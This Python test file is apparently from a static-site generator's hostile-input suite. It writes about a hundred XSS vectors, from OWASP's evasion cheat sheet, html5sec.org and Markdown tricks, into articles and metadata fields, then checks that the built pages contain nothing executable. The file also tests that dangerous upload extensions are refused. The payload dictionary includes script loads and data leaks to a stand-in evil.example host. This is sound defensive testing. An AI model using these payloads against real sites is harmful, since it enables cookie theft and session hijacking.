"""Markup that wants to run: in the shapes of OWASP's cheat sheet on evading filters, of html5sec.org, and of templates
that lead out of a sandbox. Each is written into every place where an editor's words go, and the pages are looked at
as a browser reads them: nothing of it is a script, an event, a frame, or an address that runs."""

from collections import Counter
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree as ET

from jianbao import mime
from tests.hostile.damage import run
from tests.sites import Site

HTML = {
    # OWASP, XSS Filter Evasion Cheat Sheet
    "script": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "polyglot": "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "malformed a": '\\<a onmouseover="alert(document.cookie)"\\>x\\</a\\>',
    "malformed img": '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "from char code": "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "default src": "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "no src": '<IMG onmouseover="alert(1)">',
    "on error": '<IMG SRC=/ onerror="alert(1)"></img>',
    "decimal entities": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    "long entities": '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    "hex entities": '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    "tab": '<a href="jav\tascript:alert(1);">x</a>',
    "tab entity": '<a href="jav&#x09;ascript:alert(1);">x</a>',
    "new line": '<a href="jav&#x0A;ascript:alert(1);">x</a>',
    "carriage return": '<a href="jav&#x0D;ascript:alert(1);">x</a>',
    "blank before": '<a href=" &#14; javascript:alert(1);">x</a>',
    "slash": '<SCRIPT/XSS SRC="https://evil.example/x.js"></SCRIPT>',
    "odd attribute": '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "two brackets": '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "no end": "<SCRIPT SRC=https://evil.example/x.js?< B >",
    "protocol": "<SCRIPT SRC=//evil.example/.j>",
    "half open": "<IMG SRC=\"`('XSS')\"`",
    "title": '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    "input": '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
    "body": '<BODY BACKGROUND="javascript:alert(1)">',
    "dynsrc": '<IMG DYNSRC="javascript:alert(1)">',
    "bgsound": '<BGSOUND SRC="javascript:alert(1);">',
    "link": '<LINK REL="stylesheet" HREF="https://evil.example/x.css">',
    "style import": "<STYLE>@import'https://evil.example/x.css';</STYLE>",
    "meta": '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
    "meta data": '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD4=">',
    "iframe": '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
    "frameset": '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
    "table": '<TABLE BACKGROUND="javascript:alert(1)"><TR><TD>x</TABLE>',
    "div style": '<DIV STYLE="background-image: url(javascript:alert(1))">x</DIV>',
    "expression": '<DIV STYLE="width: expression(alert(1));">x</DIV>',
    "base": '<BASE HREF="javascript:alert(1);//">',
    "object": '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/x.html"></OBJECT>',
    "embed": '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" AllowScriptAccess="always"></EMBED>',
    "xml island": '<XML ID="x"><I><B><IMG SRC="javas<!-- -->cript:alert(1)"></B></I></XML>',
    "comment": "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
    "comment end": "<!--><script>alert(1)</script>-->",
    "comment bang": "<!-- --!><script>alert(1)</script> -->",
    "unquoted": "<a href=javascript&colon;alert(1)>x</a>",
    "svg": "<svg onload=alert(1)>",
    "svg animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg use": '<svg><use href="data:image/svg+xml,x#x"/></svg>',
    "svg script": "<svg><script>alert(1)</script></svg>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "video": "<video><source onerror=alert(1)></video>",
    "audio": "<audio src=x onerror=alert(1)>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "focus": "<a id=x tabindex=1 onfocus=alert(1)>x</a>",
    # html5sec.org
    "form action": '<form id="test"></form><button form="test" formaction="javascript:alert(1)">X</button>',
    "autofocus": "<input onfocus=write(1) autofocus>",
    "select": "<select autofocus onfocus=alert(1)>",
    "poster": "<video poster=javascript:alert(1)//></video>",
    "scroll": "<body onscroll=alert(1)><br><br><input autofocus>",
    "math href": '<math href="javascript:alert(1)">CLICKME</math>',
    "math action": '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>',
    "math style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "mutation": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><script>alert(1)</script></template>",
    "isindex": "<isindex type=image src=1 onerror=alert(1)>",
    "listing": "<listing>&ltimg onerror=alert(1) src=x&gt</listing>",
    "import": '<link rel=import href="data:text/html,<script>alert(1)</script>">',
    "srcdoc": '<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>',
    "rel": '<a rel="noreferrer" href="javascript:alert(1)">x</a>',
    "data": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "view source": '<a href="view-source:javascript:alert(1)">x</a>',
    "blob": '<a href="blob:https://evil.example/1">x</a>',
    "ping": '<a href="/" ping="https://evil.example/">x</a>',
    "target": '<a href="/" target="_blank" onclick=alert(1)>x</a>',
    "clobber": "<img name=body><form id=attributes>",
    "dangling": '<img src="https://evil.example/?',
    "charset": '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    "null": "<scr\ufffdipt>alert(1)</scr\ufffdipt>",
    "full width": "＜script＞alert(1)＜/script＞",
    "processing": "<?xml-stylesheet href='javascript:alert(1)'?>",
    "doctype": "<!DOCTYPE x [<!ENTITY x 'y'>]><x>&x;</x>",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "xmp": "<xmp><script>alert(1)</script>",
    "plaintext": "<plaintext><script>alert(1)</script>",
    # Markdown's own ways to an address or an attribute
    "md link": "[x](javascript:alert(1))",
    "md link case": "[x](JaVaScRiPt:alert(1))",
    "md link entity": "[x](javascript&#58;alert(1))",
    "md link tab": "[x](java\tscript:alert(1))",
    "md link angle": "[x](<javascript:alert(1)>)",
    "md link data": "[x](data:text/html,<script>alert(1)</script>)",
    "md picture": "![x](javascript:alert(1))",
    "md picture title": '![x](a.png "x\\" onerror=\\"alert(1)")',
    "md reference": "[x][1]\n\n[1]: javascript:alert(1)",
    "md auto": "<javascript:alert(1)>",
    "md attributes": "x {: onclick=alert(1) }",
    "md attributes quoted": 'x {: title="a\\" onclick=\\"alert(1)" }',
    "md style": 'x {: style="background:url(javascript:alert(1))" }',
    "md footnote": '[^x"><script>alert(1)</script>]\n\n[^x"><script>alert(1)</script>]: y',
    "md code": '```html" onload="alert(1)\n<script>alert(1)</script>\n```',
    "md heading": '## x {#" onclick="alert(1)}',
    "md table": "| <script>alert(1)</script> | b |\n| --- | --- |\n| <img src=x onerror=alert(1)> | c |",
    "md nested": "**<script>alert(1)</script>**",
    "md entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "control characters": "a&#11;b&#1;c&#xFFFE;d&#0;e",
}
FIELDS = ("title", "kicker", "subtitle", "summary", "author")
NAMES = tuple(
    f"evil{ending}"
    for ending in ".html .HTML .htm .xhtml .xht .xml .svgz .js .mjs .shtml .php .phtml .php.jpg .asp .aspx .jsp .cgi .pl"
    " .py .sh .bat .exe .hta .mht .mhtml .xsl .swf .wasm .css .json .htaccess .jar .url .lnk .eml .html. .pdf.php".split()
)
_RUNS = ("script", "iframe", "frame", "object", "embed", "base", "form", "link", "style", "svg", "math")
_ADDRESSES = ("href", "src", "action", "formaction", "poster", "background", "data", "xlink:href", "ping", "srcdoc")


class _Seen(HTMLParser):
    """What in a page runs, told by element and attribute; the theme's own is told by what the harmless page has."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: Counter[str] = Counter()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _RUNS:
            self.found[f"<{tag}>"] += 1
        for name, value in attrs:
            bare = "".join((value or "").split()).lower()
            if name.startswith("on") or name == "style":
                self.found[name] += 1
            if name in _ADDRESSES and bare.startswith(("javascript:", "vbscript:", "data:", "blob:", "view-source:")):
                self.found[f"{name}={bare[:12]}"] += 1
            if name == "http-equiv" and bare == "refresh":
                self.found["refresh"] += 1

    handle_startendtag = handle_starttag


def runs(page: str) -> Counter[str]:
    seen = _Seen()
    seen.feed(page)
    seen.close()
    return seen.found


def _quoted(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", " ").replace("\t", "\\t") + '"'


def site(folder: Path) -> Site:
    """One article for each vector, with it in the body and in every field; and one that is harmless."""
    made = Site(folder)
    made.write("config.yaml", "site: {url: https://example.org/}\n")
    made.article("2018/gut.md", "好的", "2018-01-01", "正文。\n", **dict.fromkeys(FIELDS[1:], "好的"))
    for number, text in enumerate(HTML.values()):
        made.article(f"2018/a{number:03}.md", f"第{number}个", "2018-01-02", f"前文。\n\n{text}\n\n后文。\n")
        fields = {name: _quoted(text) for name in FIELDS}
        made.article(f"2018/f{number:03}.md", fields.pop("title"), "2018-01-03", "正文。\n", **fields)
    return made


def _refused(made: Site) -> int:
    """Takes away what a build refuses, until it builds; how many that were."""
    refused = 0
    for _ in range(20):
        code, said = run(made, "build", "--no-search")
        if not code:
            return refused
        paths = {line.split(":")[0].split(" ")[0] for line in said.splitlines() if "错误[" in line}
        for path in paths:
            (made.path / path).unlink()
        refused += len(paths)
        assert paths, said
    raise AssertionError(said)


def looked(made: Site) -> Iterator[str]:
    """What in the built site runs, or is no XML where it should be."""
    own = runs(made.read("2018/gut.html"))
    for path, data in made.tree().items():
        if path.endswith(".html") and path.startswith("2018/"):
            more = runs(data.decode()) - own
            if more:
                yield f"{path} {dict(more)}"
        if path.endswith(".xml"):
            try:
                ET.fromstring(data)
            except ET.ParseError as error:
                yield f"{path} {error}"


def campaign(folder: Path) -> Counter[str]:
    """Counts by outcome."""
    made = site(folder / "site")
    counts = Counter(tried=2 * len(HTML) + len(NAMES))
    refused = _refused(made)
    for wrong in looked(made):
        counts[f"runs: {wrong}"] += 1
    for name in NAMES:
        if not mime.refused(f"2018/{name}", ()):
            counts[f"published: {name}"] += 1
    counts["held"] = counts["tried"] - sum(n for outcome, n in counts.items() if outcome != "tried")
    counts["refused"] = refused
    del counts["refused"]
    return counts
